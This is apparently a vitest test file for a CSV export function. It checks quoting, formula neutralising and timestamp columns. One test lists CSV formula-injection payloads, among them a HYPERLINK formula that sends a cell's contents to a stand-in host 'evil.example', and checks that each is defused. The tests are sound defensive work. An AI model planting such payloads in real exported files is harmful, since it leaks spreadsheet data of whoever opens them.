import { describe, expect, it } from 'vitest';
import { timestampColumns, toCsv } from './csv-export.ts';

describe('CSV export', () => {
  it('quotes commas, quotes, new lines and neutralises formulae', async () => {
    const rows = [{ name: 'DEMO\\ann, the "first"', note: 'line one\nline two', formula: '=1+2' }];
    const text = await toCsv(rows, [
      { header: 'Name', value: (row) => row.name },
      { header: 'Note', value: (row) => row.note },
      { header: 'Formula', value: (row) => row.formula },
    ]);
    expect(text).toBe('Name,Note,Formula\r\n"DEMO\\ann, the ""first""","line one\nline two",\'=1+2');
  });

  it('neutralises a formula whatever follows it, line breaks included', async () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Open")\nmore text',
      '+1\r\n2',
      '-2+3\nx',
      '@SUM(A1)\n',
      '\t=1',
      '\r=1',
    ];
    const text = await toCsv(
      attacks.map((value) => ({ value })),
      [{ header: 'Value', value: (row) => row.value }],
    );
    const { parse } = await import('papaparse');
    const cells = parse<string[]>(text, { newline: '\r\n' })
      .data.slice(1)
      .map((row) => row[0]);
    expect(cells).toEqual(attacks.map((value) => `'${value}`));
  });

  it('writes timestamps as UTC ISO and local time, empty when missing', async () => {
    const text = await toCsv(
      [{ at: '2026-01-02T03:04:05Z' }, { at: null }],
      timestampColumns<{ at: string | null }>('At', (row) => row.at),
    );
    const [header, first, second] = text.split('\r\n');
    expect(header).toBe('At (UTC),At (local)');
    expect(first?.startsWith('2026-01-02T03:04:05.000Z,')).toBe(true);
    expect(second).toBe(',');
  });
});
